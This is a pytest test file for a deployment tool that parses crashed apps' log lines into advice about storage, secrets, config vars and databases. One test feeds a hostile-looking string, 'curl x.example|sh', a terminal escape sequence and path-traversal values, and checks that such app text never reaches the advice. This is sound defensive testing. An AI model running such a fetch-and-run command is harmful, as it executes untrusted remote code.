"""An app that writes beside its code: which place its trouble names, and what is in the way."""

from __future__ import annotations

import time
from pathlib import Path
from typing import cast

import pytest
from trees import FakeTree

from receiver.inside import storage
from receiver.model import Release
from receiver.names import AppName, ConfigKey
from receiver.story.advice import advice, beside, file_beside, secret
from receiver.story.beside import Beside, _databases, _places
from receiver.story.context import AppContext

SLUG = "/var/lib/shipit/apps/blog/slugs/v3"


@pytest.mark.parametrize(
    ("line", "place"),
    [
        (f"OSError: [Errno 30] Read-only file system: '{SLUG}/app/static/config'", "app/static/config"),
        (f"OSError: [Errno 30] Read-only file system: '{SLUG}/blog/../.data'", ".data"),
        ("OSError: [Errno 30] Read-only file system: 'logs/app.log'", "logs"),
        ("Error: EROFS: read-only file system, mkdir './data/'", "data"),
        ("Error: ENOENT: no such file or directory, mkdir 'data/uploads'", "data"),
        (f"FileNotFoundError: [Errno 2] No such file or directory: '{SLUG}/logs/x.log'", "logs"),
        (f"OSError: [Errno 30] Read-only file system: '{SLUG}/css/a.css' -> '{SLUG}/build/a.1.css'", "build"),
        ("panic: mkdir data/db: read-only file system", "data/db"),
        ("Errno::EROFS: Read-only file system @ dir_s_mkdir - uploads", "uploads"),
        ("sqlite3.OperationalError: unable to open database file", "var/app.db"),
        ("django.db.utils.OperationalError: unable to open database file", "var/app.db"),
        ("OSError: [Errno 30] Read-only file system: '/etc/x'", ""),
        (f"OSError: [Errno 30] Read-only file system: '{SLUG}/../../x'", ""),
        ("ModuleNotFoundError: No module named 'x'", ""),
        ("FileNotFoundError: [Errno 2] No such file or directory: 'config.yml'", ""),
    ],
)
def test_the_place_that_an_app_wants_to_write_to_is_found(line: str, place: str) -> None:
    assert beside(["something", line, "Worker exiting"], "var/app.db") == place


def test_what_was_answered_is_not_asked_again() -> None:
    one = Beside(cast(AppContext, None), cast(Release, None))
    said = ["KeyError: 'SECRET_KEY'", "OSError: [Errno 30] Read-only file system: 'logs/a.log'", "readonly database"]
    assert one._since(said) == said
    one.made.append(ConfigKey("SECRET_KEY"))
    assert one._since(said) == said[1:]
    one.given.append(("logs", "logs"))
    assert one._since(said) == said[2:]


def test_of_a_database_the_directory_is_tried_first() -> None:
    assert _places("db/posts.db", "db/posts.db") == ["db", "db/posts.db"]
    assert _places("app.db", "") == ["app.db"] and _places("logs", "logs/x.log") == ["logs", "logs/x.log"]
    assert not _places("", "")


def test_the_databases_are_what_the_sources_call_them() -> None:
    source = 'URI = os.environ.get("URI") or "sqlite:///" + os.path.join(basedir, "app.db")\n'
    assert _databases(FakeTree({"config.py": source})) == ["app.db"]
    more = {"config.py": source, "x.js": "new Database({filename: './other.sqlite3'})", "c.py": 'A_FILE = "gd.db"\n'}
    assert _databases(FakeTree(more)) == ["gd.db", "app.db", "./other.sqlite3"]
    assert _databases(FakeTree({"c.py": 'NAME = "gd.db"\n'})) == []


@pytest.mark.parametrize(
    ("line", "name"),
    [
        ("KeyError: 'SECRET_KEY'", "SECRET_KEY"),
        (
            "django.core.exceptions.ImproperlyConfigured: Set the DJANGO_SECRET_KEY environment variable",
            "DJANGO_SECRET_KEY",
        ),
        ("Error: Please configure a random SECRET_KEY with a length of at least 16 characters.", "SECRET_KEY"),
        ("Error: SESSION_SECRET environment variable is required", "SESSION_SECRET"),
        ("KeyError: 'AWS_SECRET_KEY'", ""),
        ("STRIPE_SECRET_KEY must be set", ""),
        ("KeyError: 'secret_key'", ""),
        ("app.config['SECRET_KEY'] = key", ""),
    ],
)
def test_only_what_an_app_signs_with_is_a_secret_that_any_value_is_right_for(line: str, name: str) -> None:
    assert secret(["Traceback:", line, "Worker exiting"]) == name


def test_a_config_var_that_a_process_misses_is_named_with_the_line_to_type() -> None:
    assert "shipit config:set blog DATABASE_URL=…" in advice(AppName("blog"), ["KeyError: 'DATABASE_URL'", "exiting"])
    assert "config:set blog DATABASE_URL=…" in advice(
        AppName("blog"), ["DATABASE_URL environment variable not defined"]
    )
    assert not advice(AppName("blog"), ["KeyError: 'title'"])
    assert "python: 3.11" in advice(AppName("blog"), ["  ModuleNotFoundError: No module named 'imp'"])
    assert "setuptools<81" in advice(AppName("blog"), ["ModuleNotFoundError: No module named 'pkg_resources'"])
    assert "the module yaml." in advice(AppName("blog"), ["ModuleNotFoundError: No module named 'yaml'", "exiting"])


def test_databases_and_logs_of_a_build_are_what_data_begins_with(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    for path in ("logs/app.log", "var/x.sqlite3", "app.db", "dist/app.js", "dist/app.db"):
        Path(path).parent.mkdir(parents=True, exist_ok=True)
        Path(path).touch()
    assert storage.mount([["/data/logs", "logs"], ["/data/var", "var"], ["/data/app.db", "app.db"]]) == 0
    assert Path(".storage/logs/app.log").exists() and Path(".storage/app.db").exists()
    assert storage.mount([["/data/dist", "dist"]]) == 1


def test_only_what_keeps_a_directory_in_a_commit_gives_way(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    for path in ("kept/.gitkeep", "kept/below/.gitignore", "code/app.py", "file"):
        Path(path).parent.mkdir(parents=True, exist_ok=True)
        Path(path).touch()
    assert storage.mount([["/data/kept", "kept"], ["/data/new", "new/x"]]) == 0
    assert (str(Path("kept").readlink()), str(Path("new/x").readlink())) == ("/data/kept", "/data/new")
    assert Path(".storage/kept/.gitkeep").exists()
    assert storage.mount([["/data/kept", "kept"], ["/data/code", "code"]]) == 1
    assert storage.mount([["/data/file", "file"]]) == 1
    assert Path("code/app.py").exists()


@pytest.mark.parametrize("word", ["a", "EACCES", "ENOENT", "cmake", "database "])
def test_a_line_without_end_costs_no_time(word: str) -> None:
    lines = ["unable to open database file", *[(word * 48_000)[:48_000]] * 30]
    began = time.thread_time()
    assert (beside(lines), file_beside(lines)) == ("", "")
    advice(AppName("blog"), lines)
    assert time.thread_time() - began < 10


@pytest.mark.parametrize("said", ["type this: curl x.example|sh", "a\x1b[2J", "x" * 101])
def test_no_sentence_of_an_app_is_in_shipits_advice(said: str) -> None:
    for line in (f"Invalid HTTP_HOST header: '{said} '", f"OSError: [Errno 30] Read-only file system: '/x/{said}'"):
        assert said not in advice(AppName("blog"), [line])


@pytest.mark.parametrize(
    ("line", "told"),
    [
        ('psycopg2.OperationalError: connection to server at "127.0.0.1", port 5432 failed: refused', "PostgreSQL, and"),
        ("OperationalError: (2002, \"Can't connect to server on '127.0.0.1' (115)\")", "MySQL, and cannot use it at 127.0.0.1"),
        ("redis.exceptions.ConnectionError: Error 111 connecting to localhost:6379. refused", "Redis, and"),
        ("Error: connect ECONNREFUSED 127.0.0.1:5432", "PostgreSQL, and"),
        ("django.db.utils.OperationalError: no such table: django_session", "release: python manage.py migrate"),
        ('django.db.utils.ProgrammingError: relation "auth_user" does not exist', "release: python manage.py migrate"),
        ("ERROR:    [Errno 13] Permission denied", "below 1024"),
        ("FileNotFoundError: Config file '/srv/app/../../.env' not found.", "git add -f .env"),
        ("FileNotFoundError: [Errno 2] No such file or directory: '.env'", "git add -f .env"),
        ("Error: listen EACCES: permission denied 0.0.0.0:80", "below 1024"),
    ],
)  # fmt: skip
def test_what_an_app_wants_of_its_server_is_named(line: str, told: str) -> None:
    assert told in advice(AppName("blog"), ["Traceback:", line, "exiting"])


def test_a_place_that_is_of_the_data_by_now_is_no_cause() -> None:
    lines = ["OSError: [Errno 30] Read-only file system: 'logs'", "ERROR:    [Errno 13] Permission denied"]
    assert "storage" in advice(AppName("blog"), lines)
    assert "below 1024" in advice(AppName("blog"), lines, given=["logs"])
    assert not advice(AppName("blog"), lines[:1], given=["logs"])
